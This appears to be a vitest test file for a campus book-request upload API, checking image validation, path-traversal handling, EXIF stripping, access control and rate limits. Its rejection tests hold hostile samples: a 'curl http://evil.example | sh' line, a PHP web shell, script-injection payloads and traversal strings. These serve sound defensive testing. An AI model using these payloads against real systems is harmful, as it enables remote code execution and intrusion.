import fs from 'node:fs';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LIMITS, MESSAGES, type MyBookRequests } from '@campus/contract';
import { bookRequests, jobs } from '../../db/schema';
import { PUSH_FANOUT_QUEUE } from '../notifications/push/push-dispatch';
import { IMAGE_MESSAGES } from '../images/image-pipeline';
import sharp from 'sharp';
import { createOperator } from '../../test/personas';
import { createTestApp, createTestUser, type TestApp } from '../../test/test-app';
import { phoneJpeg, SAMPLE_IMAGES } from '../../test/test-images';

type Part = { name: string; value: string } | { name: string; filename: string; type: string; data: Buffer };

/** Builds a multipart/form-data body by hand so each test controls file names and declared types exactly. */
function multipart(parts: Part[]) {
  const boundary = `----campus${Math.random().toString(16).slice(2)}`;
  const chunks: Buffer[] = [];
  for (const part of parts) {
    if ('value' in part) {
      chunks.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"\r\n\r\n${part.value}\r\n`));
    } else {
      chunks.push(
        Buffer.from(
          `--${boundary}\r\nContent-Disposition: form-data; name="${part.name}"; filename="${part.filename}"\r\nContent-Type: ${part.type}\r\n\r\n`,
        ),
      );
      chunks.push(part.data, Buffer.from('\r\n'));
    }
  }
  chunks.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(chunks), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const fields = (name = 'Things Fall Apart', author = 'Chinua Achebe'): Part[] => [
  { name: 'name', value: name },
  { name: 'author', value: author },
];
const image = (data: Buffer, filename = 'cover.png', type = 'image/png'): Part => ({ name: 'images', filename, type, data });
const RANDOM_NAME = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\.(jpg|png|webp|gif)$/;

let t: TestApp;
let uploads: string;
beforeAll(async () => {
  // A low quota so the limit test is cheap; every other call comes from an address of its own.
  t = await createTestApp({ config: { bookRequestLimit: { max: 2, timeWindowMs: 60_000 } } });
  uploads = path.join(t.config.dataDir, 'uploads', 'books');
});
afterAll(async () => {
  await t?.close();
  if (t) fs.rmSync(t.config.dataDir, { recursive: true, force: true });
});

let addresses = 0;
const freshAddress = () => `10.0.${Math.floor(++addresses / 250)}.${(addresses % 250) + 1}`;
const post = (parts: Part[], remoteAddress = freshAddress(), auth: Record<string, string> = {}) => {
  const body = multipart(parts);
  return t.app.inject({ method: 'POST', url: '/api/v1/book', remoteAddress, payload: body.payload, headers: { ...body.headers, ...auth } });
};
const getImage = (id: string, auth: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url: `/api/v1/book/${id}/image`, headers: auth });
const storedFiles = () => (fs.existsSync(uploads) ? fs.readdirSync(uploads) : []);
const rowOf = async (id: string) => (await t.database.db.select().from(bookRequests).where(eq(bookRequests.id, id)))[0];

describe('POST /api/v1/book: accepted requests', () => {
  it('saves a request without an image', async () => {
    const res = await post(fields('  Purple Hibiscus ', ' Chimamanda Ngozi Adichie  '));
    expect(res.statusCode).toBe(201);
    const body = res.json<{ message: string; id: string }>();
    expect(body.message).toBe('Book request submitted successfully');
    const row = await rowOf(body.id);
    expect(row).toMatchObject({ name: 'Purple Hibiscus', author: 'Chimamanda Ngozi Adichie', imagePath: null, imageType: null });
  });

  it('stores the image re-encoded as JPEG under a random server-made name inside the data directory and serves it back to its requester', async () => {
    const shopper = await createTestUser(t.app);
    const before = storedFiles();
    const res = await post([...fields(), image(SAMPLE_IMAGES.png, 'my cover.png')], freshAddress(), shopper.auth);
    expect(res.statusCode).toBe(201);
    const { id } = res.json<{ id: string }>();
    const row = await rowOf(id);
    expect(row?.imageType).toBe('image/jpeg');
    const added = storedFiles().filter((file) => !before.includes(file));
    expect(added).toHaveLength(1);
    const [file = ''] = added;
    expect(file).toMatch(RANDOM_NAME);
    expect(file).not.toContain('cover');
    const absolute = path.resolve(t.config.dataDir, row?.imagePath ?? '');
    expect(absolute).toBe(path.join(uploads, file));
    const stored = fs.readFileSync(absolute);
    expect(await sharp(stored).metadata()).toMatchObject({ format: 'jpeg', width: 24, height: 16 });

    const served = await getImage(id, shopper.auth);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/jpeg');
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.rawPayload.equals(stored)).toBe(true);
  });

  for (const [kind, data] of [
    ['JPEG', SAMPLE_IMAGES.jpeg],
    ['WebP', SAMPLE_IMAGES.webp],
    ['GIF', SAMPLE_IMAGES.gif],
  ] as const) {
    it(`accepts a ${kind} image, judged by its bytes even when the name and Content-Type say otherwise, and keeps it as JPEG`, async () => {
      const res = await post([...fields(), image(data, 'notes.txt', 'text/plain')]);
      expect(res.statusCode).toBe(201);
      const row = await rowOf(res.json<{ id: string }>().id);
      expect(row?.imageType).toBe('image/jpeg');
      expect(path.basename(row?.imagePath ?? '')).toMatch(RANDOM_NAME);
      expect(row?.imagePath?.endsWith('.jpg')).toBe(true);
    });
  }

  it('never uses a client path: a ../ file name lands inside the uploads folder under a random name', async () => {
    const outside = path.resolve(uploads, '../../evil.png');
    const res = await post([...fields(), image(SAMPLE_IMAGES.png, '../../evil.png')]);
    expect(res.statusCode).toBe(201);
    const row = await rowOf(res.json<{ id: string }>().id);
    const absolute = path.resolve(t.config.dataDir, row?.imagePath ?? '');
    expect(path.dirname(absolute)).toBe(uploads);
    expect(path.basename(absolute)).toMatch(RANDOM_NAME);
    expect(fs.existsSync(outside)).toBe(false);
    expect(storedFiles().some((file) => file.includes('evil'))).toBe(false);
  });

  it('ignores extra unknown fields and stores only the title and author', async () => {
    const res = await post([
      ...fields('Half of a Yellow Sun', 'Chimamanda Ngozi Adichie'),
      { name: 'price', value: '0' },
      { name: 'imagePath', value: '/etc/passwd' },
      { name: 'isAdmin', value: 'true' },
    ]);
    expect(res.statusCode).toBe(201);
    const row = await rowOf(res.json<{ id: string }>().id);
    expect(row).toMatchObject({ name: 'Half of a Yellow Sun', author: 'Chimamanda Ngozi Adichie', imagePath: null });
  });

  it('treats an empty, unnamed file part (a form with no file chosen) as no image', async () => {
    const res = await post([...fields(), image(Buffer.alloc(0), '', 'application/octet-stream')]);
    expect(res.statusCode).toBe(201);
    expect((await rowOf(res.json<{ id: string }>().id))?.imagePath).toBeNull();
  });
});

describe('POST /api/v1/book: refused requests', () => {
  it.each([
    ['the title is missing', [{ name: 'author', value: 'Wole Soyinka' }], 'name'],
    ['the author is missing', [{ name: 'name', value: 'Ake' }], 'author'],
    ['the title is blank', fields('   ', 'Wole Soyinka'), 'name'],
    ['the author is blank', fields('Ake', '  \t '), 'author'],
    ['no field at all', [], 'name'],
  ] as const)('400 "Please fill all the fields" when %s, naming the field', async (_label, parts, field) => {
    const res = await post([...parts]);
    expect(res.statusCode).toBe(400);
    expect(res.json()).toEqual({ error: MESSAGES.bookFillAllFields, code: 'invalid_input', field });
  });

  it('400 when the title or author is too long', async () => {
    const longTitle = await post(fields('x'.repeat(201)));
    expect(longTitle.statusCode).toBe(400);
    expect(longTitle.json()).toEqual({ error: 'Book title must be at most 200 characters', code: 'invalid_input', field: 'name' });
    const longAuthor = await post(fields('Ake', 'y'.repeat(5000)));
    expect(longAuthor.statusCode).toBe(400);
    expect(longAuthor.json()).toEqual({ error: 'Author name must be at most 200 characters', code: 'invalid_input', field: 'author' });
  });

  it('413 for an image over 5 MB, and nothing is stored', async () => {
    const before = storedFiles();
    const big = Buffer.concat([SAMPLE_IMAGES.png.subarray(0, 33), Buffer.alloc(LIMITS.bookImageMaxBytes)]);
    const res = await post([...fields(), image(big)]);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toEqual({ error: MESSAGES.bookImageTooLarge, code: 'payload_too_large' });
    expect(storedFiles()).toEqual(before);
  });

  it.each([
    ['a shell script renamed .jpg', Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n'), 'cover.jpg', 'image/jpeg'],
    ['a PHP script with a lying Content-Type', Buffer.from('<?php system($_GET["c"]); ?>'), 'cover.png', 'image/png'],
    ['an HTML page posing as a GIF', Buffer.from('<html><script>alert(1)</script></html>'), 'cover.gif', 'image/gif'],
    ['an SVG image', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'cover.svg', 'image/svg+xml'],
    ['an empty file', Buffer.alloc(0), 'cover.png', 'image/png'],
    ['a truncated PNG', SAMPLE_IMAGES.png.subarray(0, SAMPLE_IMAGES.png.length - 20), 'cover.png', 'image/png'],
    ['a truncated JPEG', SAMPLE_IMAGES.jpeg.subarray(0, 400), 'cover.jpg', 'image/jpeg'],
    ['a truncated WebP', SAMPLE_IMAGES.webp.subarray(0, SAMPLE_IMAGES.webp.length - 10), 'cover.webp', 'image/webp'],
    ['a GIF without its trailer', SAMPLE_IMAGES.gif.subarray(0, SAMPLE_IMAGES.gif.length - 1), 'cover.gif', 'image/gif'],
    [
      'a PNG signature followed by a script',
      Buffer.concat([SAMPLE_IMAGES.png.subarray(0, 8), Buffer.from('<script>alert(1)</script>'.repeat(4))]),
      'cover.png',
      'image/png',
    ],
  ] as const)('415 for %s, and nothing is stored', async (_label, data, filename, type) => {
    const before = storedFiles();
    const res = await post([...fields(), image(data, filename, type)]);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ error: MESSAGES.bookImageType, code: 'unsupported_media_type' });
    expect(storedFiles()).toEqual(before);
  });

  it('413 for more than one file', async () => {
    const res = await post([...fields(), image(SAMPLE_IMAGES.png), image(SAMPLE_IMAGES.gif, 'second.gif', 'image/gif')]);
    expect(res.statusCode).toBe(413);
    expect(res.json()).toEqual({ error: 'Send at most one image', code: 'payload_too_large' });
  });

  it('415 for a body that is not multipart', async () => {
    const res = await t.app.inject({ method: 'POST', url: '/api/v1/book', payload: { name: 'Ake', author: 'Wole Soyinka' } });
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ error: 'Send the book request as multipart/form-data', code: 'unsupported_media_type' });
  });
});

describe('GET /api/v1/book/:id/image', () => {
  it('404 for a request without an image, an unknown id or a path', async () => {
    const operator = await createOperator(t.app);
    const withoutImage = (await post(fields())).json<{ id: string }>().id;
    for (const id of [withoutImage, '00000000-0000-4000-8000-000000000000', '..%2F..%2Fjwt-secret', 'not-an-id']) {
      const res = await getImage(id, operator.auth);
      expect(res.statusCode).toBe(404);
      expect(res.json()).toEqual({ error: 'Image not found', code: 'not_found' });
    }
  });
});

describe('issue 35 finding 10: a book request picture with GPS', () => {
  it('a GPS-tagged phone photo is stored and served without its EXIF or GPS', async () => {
    const shopper = await createTestUser(t.app);
    const photo = await phoneJpeg(800, 600);
    expect((await sharp(photo).metadata()).exif).toBeDefined();
    expect(photo.includes(Buffer.from('PhonyPhone'))).toBe(true);
    const res = await post([...fields(), image(photo, 'IMG_0001.jpg', 'image/jpeg')], freshAddress(), shopper.auth);
    expect(res.statusCode).toBe(201);
    const served = await getImage(res.json<{ id: string }>().id, shopper.auth);
    expect(served.statusCode).toBe(200);
    const metadata = await sharp(served.rawPayload).metadata();
    expect(metadata).toMatchObject({ format: 'jpeg', width: 800, height: 600 });
    expect(metadata.exif).toBeUndefined();
    expect(served.rawPayload.includes(Buffer.from('PhonyPhone'))).toBe(false);
    expect(served.rawPayload.includes(Buffer.from('Exif'))).toBe(false);
  });

  it('anyone with the id is not served the picture: only its requester and the operator are', async () => {
    const requester = await createTestUser(t.app);
    const stranger = await createTestUser(t.app);
    const operator = await createOperator(t.app);
    const { id } = (await post([...fields(), image(SAMPLE_IMAGES.png)], freshAddress(), requester.auth)).json<{ id: string }>();
    const signedOut = await getImage(id);
    expect(signedOut.statusCode).toBe(401);
    const strangers = await getImage(id, stranger.auth);
    expect(strangers.statusCode).toBe(404);
    expect(strangers.json()).toEqual({ error: 'Image not found', code: 'not_found' });
    expect((await getImage(id, requester.auth)).statusCode).toBe(200);
    expect((await getImage(id, operator.auth)).statusCode).toBe(200);
    // A visitor's request (no account) is the operator's alone.
    const anonymous = (await post([...fields(), image(SAMPLE_IMAGES.png)])).json<{ id: string }>().id;
    expect((await getImage(anonymous, stranger.auth)).statusCode).toBe(404);
    expect((await getImage(anonymous, operator.auth)).statusCode).toBe(200);
  });

  it('a very thin picture is refused with 415 and the pipeline’s words, from its header', async () => {
    const strip = await sharp({ create: { width: 40, height: 1000, channels: 3, background: '#888888' } })
      .png()
      .toBuffer();
    const res = await post([...fields(), image(strip)]);
    expect(res.statusCode).toBe(415);
    expect(res.json()).toEqual({ error: IMAGE_MESSAGES.tooThin, code: 'unsupported_media_type' });
  });
});

describe('rate limit', () => {
  it('answers 429 with Retry-After once an address has sent its quota, other addresses unaffected', async () => {
    const address = '10.99.99.99';
    expect((await post(fields(), address)).statusCode).toBe(201);
    expect((await post(fields(), address)).statusCode).toBe(201);
    const third = await post(fields(), address);
    expect(third.statusCode).toBe(429);
    expect(third.json()).toEqual({ error: MESSAGES.tooManyRequests, code: 'rate_limited' });
    expect(Number(third.headers['retry-after'])).toBeGreaterThan(0);
    expect((await post(fields(), '10.99.99.98')).statusCode).toBe(201);
  });
});

describe('GET /api/v1/user/book-requests: the requests a shopper sent (issue 37 item 5)', () => {
  const mine = (auth: Record<string, string> = {}) => t.app.inject({ method: 'GET', url: '/api/v1/user/book-requests', headers: auth });

  it('lists the signed-in shopper’s own requests, newest first, with the operator’s status and note once answered', async () => {
    const shopper = await createTestUser(t.app);
    const operator = await createOperator(t.app);
    const first = (await post(fields('Arrow of God', 'Chinua Achebe'), freshAddress(), shopper.auth)).json<{ id: string }>().id;
    const second = (
      await post([...fields('Half of a Yellow Sun', 'Chimamanda Ngozi Adichie'), image(SAMPLE_IMAGES.png)], freshAddress(), shopper.auth)
    ).json<{
      id: string;
    }>().id;
    // Sent signed out from the same phone: not linked to the account, not listed.
    await post(fields('Anthills of the Savannah', 'Chinua Achebe'));

    const before = await mine(shopper.auth);
    expect(before.statusCode).toBe(200);
    const listed = before.json<MyBookRequests>().requests;
    expect(listed.map((request) => [request.id, request.name, request.status, request.hasImage])).toEqual([
      [second, 'Half of a Yellow Sun', 'new', true],
      [first, 'Arrow of God', 'new', false],
    ]);

    const answer = await t.app.inject({
      method: 'PATCH',
      url: `/api/v1/admin/book-requests/${first}`,
      headers: operator.auth,
      payload: { status: 'found', note: 'Collect it at the book shop from Monday.' },
    });
    expect(answer.statusCode).toBe(200);
    const after = (await mine(shopper.auth)).json<MyBookRequests>().requests;
    expect(after.find((request) => request.id === first)).toMatchObject({
      status: 'found',
      note: 'Collect it at the book shop from Monday.',
    });
    // The answer also goes to the shopper's devices that asked for news (push), once per outcome.
    const pushes = await t.database.db
      .select({ key: jobs.key })
      .from(jobs)
      .where(and(eq(jobs.queue, PUSH_FANOUT_QUEUE), eq(jobs.key, `shopper:${shopper.user.id}:book:${first}:found`)));
    expect(pushes).toHaveLength(1);
  });

  it('shows another shopper none of them, and a caller without a token gets 401', async () => {
    const shopper = await createTestUser(t.app);
    const stranger = await createTestUser(t.app);
    await post(fields('Purple Hibiscus', 'Chimamanda Ngozi Adichie'), freshAddress(), shopper.auth);
    expect((await mine(stranger.auth)).json<MyBookRequests>().requests).toEqual([]);
    expect((await mine()).statusCode).toBe(401);
  });
});
